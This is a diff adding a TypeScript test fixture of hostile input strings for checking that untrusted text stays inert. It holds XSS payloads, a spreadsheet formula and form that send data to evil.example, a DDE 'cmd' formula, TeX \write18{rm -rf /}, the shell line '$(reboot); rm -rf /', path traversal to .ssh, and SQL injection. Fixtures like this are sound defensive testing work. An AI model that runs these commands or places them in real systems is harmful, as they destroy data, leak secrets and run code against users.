@@ -1,0 +1,121 @@
+/** A text that a page, a file or a user may send in any field. It must stay text: shown, bounded, never run. */
+export interface HostileString {
+  /** Short, for the name of a test. */
+  name: string;
+  text: string;
+}
+
+const MANY = 100_000;
+
+/** `globalThis.hostileRan` is what those with code in them would set; a page can check that it is not there. */
+export const HOSTILE_STRINGS: readonly HostileString[] = [
+  // Mark-up
+  { name: 'script element', text: '<script>globalThis.hostileRan=1</script>' },
+  { name: 'script that closes another', text: '</script><script>globalThis.hostileRan=1</script>' },
+  { name: 'image with onerror', text: '<img src=x onerror="globalThis.hostileRan=1">' },
+  { name: 'svg with onload', text: '<svg/onload=globalThis.hostileRan=1>' },
+  { name: 'attribute break-out', text: '"><b onmouseover="globalThis.hostileRan=1">bold</b>' },
+  { name: 'single-quote break-out', text: "' autofocus onfocus='globalThis.hostileRan=1" },
+  { name: 'frame with srcdoc', text: '<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>' },
+  {
+    name: 'template and mutation',
+    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostileRan=1&gt;">',
+  },
+  { name: 'style element', text: '<style>*{display:none}</style>Hidden list' },
+  { name: 'base element', text: '<base href="https://evil.example/">' },
+  { name: 'form', text: '<form action="https://evil.example/"><input name="secret"></form>' },
+  { name: 'entities', text: '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x41; &copy;' },
+  { name: 'comment and cdata', text: '<!-- --!> <![CDATA[ ]]> <?xml version="1.0"?>' },
+  { name: 'unclosed tag', text: 'Bounds for k<n and n>0 when a<b' },
+  { name: 'textarea break-out', text: '</textarea></title></style><img src=x onerror=globalThis.hostileRan=1>' },
+  // Addresses
+  { name: 'javascript address', text: 'javascript:globalThis.hostileRan=1' },
+  { name: 'javascript address in disguise', text: ' \u0001JaVa\tScRiPt:globalThis.hostileRan=1' },
+  { name: 'javascript address with a host', text: 'javascript://example.org/%0aglobalThis.hostileRan=1' },
+  { name: 'data address', text: 'data:text/html,<script>parent.hostileRan=1</script>' },
+  { name: 'address with a password', text: 'https://arxiv.org:443@evil.example/abs/2401.00001' },
+  { name: 'file address', text: 'file:///etc/passwd' },
+  { name: 'address with mark-up characters', text: 'https://example.org/a_(b)?q=`1`&copy;=[2]|3\\4#<5>' },
+  // Characters
+  {
+    name: 'every C0 control',
+    text: `Control ${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')} end`,
+  },
+  { name: 'C1 controls', text: 'Next\u0085line \u0080\u009b31m\u009f end' },
+  { name: 'NUL', text: 'Before\u0000after' },
+  { name: 'only a NUL', text: '\u0000' },
+  { name: 'escape sequence', text: '\u001b]0;owned\u0007\u001b[31mred' },
+  { name: 'backspaces', text: 'safe\u0008\u0008\u0008\u0008evil' },
+  { name: 'right-to-left override', text: 'Invoice \u202Egpj.exe\u202C end' },
+  { name: 'bidirectional isolates', text: '\u2066left\u2069 \u2067right\u2069 \u2068first' },
+  { name: 'right-to-left text', text: 'שלום עולם و مرحبا בעולם' },
+  { name: 'zero-width characters', text: 'At\u200Bten\u2060tion\uFEFF is \u200Call' },
+  { name: 'only zero-width characters', text: '\u200B\u2060\uFEFF' },
+  { name: 'high surrogate alone', text: 'Half \uD83D of a pair' },
+  { name: 'low surrogate alone', text: '\uDE00 begins with half' },
+  { name: 'surrogates in the wrong order', text: 'Swapped \uDE00\uD83D pair' },
+  { name: 'noncharacters', text: 'Last \uFFFF \uFFFE \uFDD0 \uFFFD' },
+  { name: 'emoji of several parts', text: 'Families 👩‍👩‍👧‍👦 and flags 🇳🇴🏴󠁧󠁢󠁷󠁬󠁳󠁿 in models' },
+  { name: 'a hundred accents', text: `Z${'\u0301'.repeat(100)}algo` },
+  { name: 'line and paragraph separators', text: 'One\u2028two\u2029three' },
+  { name: 'CRLF', text: 'One\r\n\r\nTwo\r\nSet-Cookie: a=b' },
+  { name: 'only white space', text: ' \t\r\n\u00A0\u3000 ' },
+  { name: 'empty', text: '' },
+  { name: 'full-width letters', text: 'ＬＬａＭＡ：　Ａ Ｍｏｄｅｌ ＜ｓｃｒｉｐｔ＞' },
+  // Length
+  { name: '100,000 letters', text: 'a'.repeat(MANY) },
+  { name: '100,000 words', text: 'word '.repeat(MANY / 5) },
+  { name: '100,000 opening brackets', text: '['.repeat(MANY) },
+  { name: '100,000 dollar signs', text: '$a '.repeat(MANY / 3) },
+  { name: '100,000 spaces inside', text: `a${' '.repeat(MANY)}b` },
+  { name: '100,000 hyphens inside', text: `A${'-'.repeat(MANY)}B` },
+  { name: '50,000 emoji', text: '😀'.repeat(MANY / 2) },
+  // Names with a meaning to JavaScript
+  { name: '__proto__', text: '__proto__' },
+  { name: 'constructor', text: 'constructor' },
+  { name: 'prototype path', text: 'constructor.prototype.hostileRan' },
+  { name: 'toString', text: 'toString' },
+  { name: 'JSON with __proto__', text: '{"__proto__":{"hostileRan":true}}' },
+  {
+    name: 'template literal',
+    text: '$' + '{globalThis.hostileRan=1} and {{constructor.constructor("hostileRan=1")()}}',
+  },
+  { name: 'message of the browser', text: '__MSG_extensionName__ $1 $name$' },
+  // Spreadsheets
+  { name: 'formula with =', text: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
+  { name: 'formula with +', text: "+cmd|' /C calc'!A0" },
+  { name: 'formula with -', text: '-1 Is All You Need' },
+  { name: 'formula with @', text: '@SUM(1+1)*cmd' },
+  { name: 'formula after a tab', text: '\t=1+1' },
+  { name: 'full-width formula', text: '＝1+1' },
+  { name: 'quotes, commas and semicolons', text: 'He said "no", then; "yes"' },
+  // TeX
+  { name: 'TeX input', text: '\\input{/etc/passwd}' },
+  { name: 'TeX write18', text: '\\write18{rm -rf /}' },
+  { name: 'TeX input in maths', text: 'Bounds of $\\input{x}$ and $O(\\write18{y})$' },
+  { name: 'TeX double-caret notation', text: 'A $x^^5cinput{y}$ and ^^5cinput{z}' },
+  { name: 'TeX definition', text: '\\def\\a{\\a\\a}\\a \\catcode`\\%=12' },
+  { name: 'closing brace alone', text: 'Closing } brace' },
+  { name: 'opening brace alone', text: 'Opening { brace' },
+  { name: 'escaped brace alone', text: 'Escaped \\} brace' },
+  { name: 'entry break-out', text: '}, note = {x}} @article{evil, title = {owned}' },
+  { name: 'every TeX special', text: '100% of $5 & #1 a_b x^2 ~n {m} \\end' },
+  { name: 'real maths', text: 'Sample Complexity $\\mathcal{O}(\\sqrt{K})$ for $k$-NN' },
+  { name: 'money', text: 'From $5 to $10: Bugs for 1$' },
+  // Markdown, front matter and shells
+  { name: 'Markdown image', text: '![x](https://evil.example/p.png)' },
+  { name: 'Markdown link break-out', text: '](javascript:alert(1)) [x' },
+  { name: 'Markdown emphasis', text: '**starred** _read_ ~~gone~~ ==mark== %%hidden%%' },
+  { name: 'backticks', text: '`` `code` ``` fence' },
+  { name: 'table pipes', text: 'a | b || c |--|' },
+  { name: 'list and heading starts', text: '# Heading\n- [x] done\n1. one\n> quote' },
+  { name: 'front matter', text: '---\ntitle: "owned"\ntags: [a]\n---\n' },
+  { name: 'autolinks', text: '<https://evil.example> www.evil.example mail@evil.example @everyone #1' },
+  { name: 'wiki link', text: '[[Other note]] ![[Embed]] ^block-id' },
+  { name: 'YAML pitfalls', text: '!!js/function: &a *a no: ~' },
+  { name: 'shell', text: '$(reboot) `reboot` ; rm -rf / | tee' },
+  { name: 'path', text: '../../.ssh/authorized_keys' },
+  { name: 'reserved file name', text: 'CON.txt' },
+  { name: 'SQL', text: "Robert'); DROP TABLE papers;--" },
+  { name: 'format string', text: '%s%s%n %00 %0a' },
+];
